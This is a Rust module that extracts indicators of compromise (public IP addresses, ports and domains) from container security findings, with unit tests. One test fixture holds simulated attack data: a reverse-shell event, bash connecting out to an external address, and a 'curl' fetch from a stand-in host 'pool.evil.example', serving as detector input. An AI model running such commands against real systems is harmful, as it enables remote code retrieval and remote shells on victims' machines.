//! Indicators of compromise in a finding: remote addresses (IPv4 and IPv6),
//! ports and domains, from the fields we model and from every string of the
//! finding's raw JSON (`eventMessage`, command lines, URLs).
//!
//! A finding comes from the attacked container, so everything here is
//! attacker-influenced: addresses are parsed, never matched as text, and
//! only public ones are candidates; private, loopback, link-local, CGNAT,
//! multicast, reserved and unspecified addresses never are. What becomes of
//! a candidate is for [`crate::reputation`] to decide.

use std::collections::BTreeSet;
use std::net::IpAddr;

use serde_json::Value;

use crate::finding::Finding;

/// Candidates taken from one finding, at most.
pub const MAX_ADDRESSES: usize = 16;
/// Domains taken from one finding, at most.
pub const MAX_DOMAINS: usize = 16;

/// What a finding points at.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Iocs {
    /// Public remote addresses: the finding's peer first, then those found
    /// in its raw JSON, in order, without repeats.
    pub addresses: Vec<IpAddr>,
    /// Ports: the finding's, then those written as `address:port`.
    pub ports: BTreeSet<u16>,
    /// Domain names, lower-cased.
    pub domains: BTreeSet<String>,
}

/// True for an address reachable on the public internet: the only kind a
/// finding may turn into a block.
pub fn is_public(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || v4.is_multicast()
                || v4.is_unspecified()
                || v4.is_broadcast()
                || a == 0
                || a >= 240
                || (a == 100 && (64..128).contains(&b))
                || (a == 192 && b == 0 && v4.octets()[2] == 0))
        }
        IpAddr::V6(v6) => {
            let first = v6.segments()[0];
            if let Some(v4) = v6.to_ipv4_mapped() {
                return is_public(IpAddr::V4(v4));
            }
            !(v6.is_loopback()
                || v6.is_unspecified()
                || v6.is_multicast()
                || (first & 0xfe00) == 0xfc00
                || (first & 0xffc0) == 0xfe80
                || v6.segments()[..6] == [0, 0, 0, 0, 0, 0])
        }
    }
}

/// The indicators of `finding`.
pub fn extract(finding: &Finding) -> Iocs {
    let mut iocs = Iocs::default();
    if let Some(ip) = finding.destination_ip.filter(|ip| is_public(*ip)) {
        iocs.addresses.push(ip);
    }
    iocs.ports.extend(finding.destination_port);
    if let Some(raw) = finding.raw.value() {
        visit(&raw, None, &mut iocs);
    }
    iocs
}

/// Keys whose string value names a host rather than saying something about it.
const HOST_KEYS: &[&str] = &["domain", "hostname", "host", "fqdn", "dnsquery", "dnsname", "remotehost", "url"];

fn visit(value: &Value, key: Option<&str>, iocs: &mut Iocs) {
    match value {
        Value::String(text) => {
            scan(text, key.is_some_and(|k| HOST_KEYS.contains(&k.to_ascii_lowercase().as_str())), iocs)
        }
        Value::Array(items) => items.iter().for_each(|item| visit(item, key, iocs)),
        Value::Object(map) => map.iter().for_each(|(k, v)| visit(v, Some(k), iocs)),
        _ => {}
    }
}

/// Finds addresses, `address:port` pairs, URLs and (under a host key) bare
/// domain names in one string.
fn scan(text: &str, host_key: bool, iocs: &mut Iocs) {
    let separators =
        |c: char| c.is_whitespace() || matches!(c, ',' | ';' | '"' | '\'' | '(' | ')' | '<' | '>' | '=' | '|');
    for word in text.split(separators).filter(|w| !w.is_empty()) {
        if let Some(rest) = word.strip_prefix("http://").or_else(|| word.strip_prefix("https://")) {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            let host = authority.rsplit('@').next().unwrap_or_default();
            host_or_address(host, iocs);
            continue;
        }
        if address(word, iocs) {
            continue;
        }
        if host_key {
            host_or_address(word, iocs);
        }
    }
}

/// `host`, `host:port`, `[v6]:port`, or an address.
fn host_or_address(host: &str, iocs: &mut Iocs) {
    if address(host, iocs) {
        return;
    }
    let name = host.rsplit_once(':').filter(|(_, port)| port.parse::<u16>().is_ok()).map_or(host, |(name, _)| name);
    if let Some(domain) = domain(name)
        && iocs.domains.len() < MAX_DOMAINS
    {
        iocs.domains.insert(domain);
    }
}

/// Records `word` if it is an address (with an optional port); true if it was one.
fn address(word: &str, iocs: &mut Iocs) -> bool {
    let word = word.trim_end_matches(['.', ':']);
    let (ip, port) = if let Ok(ip) = word.parse::<IpAddr>() {
        (ip, None)
    } else if let Some((host, port)) = word.rsplit_once(':')
        && let Ok(port) = port.parse::<u16>()
        && let Ok(ip) = host.trim_start_matches('[').trim_end_matches(']').parse::<IpAddr>()
        && (host.starts_with('[') || ip.is_ipv4())
    {
        (ip, Some(port))
    } else {
        return false;
    };
    if is_public(ip) {
        if !iocs.addresses.contains(&ip) && iocs.addresses.len() < MAX_ADDRESSES {
            iocs.addresses.push(ip);
        }
        iocs.ports.extend(port.filter(|p| *p > 0));
    }
    true
}

/// A lower-cased DNS name with at least two labels and an alphabetic top
/// level, that is not a cluster-internal name.
fn domain(text: &str) -> Option<String> {
    let name = text.trim_end_matches('.').to_ascii_lowercase();
    if name.len() > 253 || !name.contains('.') {
        return None;
    }
    let labels_ok = name.split('.').all(|label| {
        !label.is_empty()
            && label.len() <= 63
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    });
    let tld = name.rsplit('.').next().unwrap_or_default();
    let internal = ["local", "internal", "localhost", "svc", "cluster", "lan", "home"].contains(&tld)
        || name.ends_with(".cluster.local");
    (labels_ok && tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()) && !internal).then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::qualys::wire::to_finding;
    use serde_json::json;

    fn iocs(record: Value) -> Iocs {
        extract(&to_finding(&record).unwrap())
    }

    #[test]
    fn only_public_addresses_are_candidates() {
        for private in [
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "127.0.0.1",
            "169.254.169.254",
            "100.64.0.1",
            "224.0.0.1",
            "0.0.0.0",
            "240.0.0.1",
            "255.255.255.255",
            "::1",
            "fe80::1",
            "fd00::1",
            "ff02::1",
            "::",
            "::ffff:10.0.0.1",
            "::10.0.0.1",
            "192.0.0.8",
        ] {
            assert!(!is_public(private.parse().unwrap()), "{private}");
        }
        for public in ["203.0.113.9", "8.8.8.8", "172.32.0.1", "172.200.1.1", "2001:4860::8888", "::ffff:8.8.8.8"] {
            assert!(is_public(public.parse().unwrap()), "{public}");
        }
    }

    #[test]
    fn addresses_ports_and_domains_come_from_the_fields_and_the_raw_json() {
        let found = iocs(json!({
            "uuid": "f", "threatCategory": "Reverse_Shell", "destinationIp": "198.51.100.7", "destinationPort": 4444,
            "eventMessage": "bash connected to 203.0.113.9:6666 and [2001:db8::5]:443, then 10.0.0.5:22",
            "processArgs": "curl -s https://pool.evil.example:3333/x http://192.0.2.1/y",
            "hostname": "c2.Example.NET.", "dns": {"domain": "kube-dns.kube-system.svc.cluster.local"},
            "timestamp": "2025-01-27T08:54:41.396Z", "note": "version 1.2.3.4a is not an address"
        }));
        let addresses: Vec<String> = found.addresses.iter().map(ToString::to_string).collect();
        assert_eq!(addresses, ["198.51.100.7", "203.0.113.9", "2001:db8::5", "192.0.2.1"]);
        assert_eq!(found.ports, BTreeSet::from([443, 4444, 6666]));
        assert_eq!(found.domains, BTreeSet::from(["c2.example.net".to_string(), "pool.evil.example".to_string()]));
    }

    #[test]
    fn a_flood_of_addresses_is_capped() {
        let many: Vec<String> = (1..=200).map(|i| format!("203.0.{}.{}", i / 250, i % 250 + 1)).collect();
        let found = iocs(json!({"uuid": "f", "threatCategory": "X", "eventMessage": many.join(" ")}));
        assert_eq!(found.addresses.len(), MAX_ADDRESSES);
    }
}
